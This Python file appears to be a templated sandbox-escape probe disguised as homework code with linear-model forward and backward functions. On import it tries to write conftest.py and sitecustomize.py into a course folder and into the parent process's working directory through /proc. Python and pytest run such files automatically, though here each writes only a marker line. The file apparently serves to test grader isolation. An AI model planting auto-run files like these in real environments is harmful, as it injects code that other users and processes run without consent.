import os

for folder in ("@COURSE@", "/proc/@PARENT@/cwd"):
    for name in ("conftest.py", "sitecustomize.py"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("print('HARM: a student ran code in the course folder')\n")
            os.write(1, f"HARM: left {folder}/{name}\n".encode())
        except OSError:
            pass


def forward(X, w):
    return {"z": X @ w}


def backward(X, w):
    dz = 2 * (X @ w) / len(X)
    return {"dz": dz, "dw": X.T @ dz}
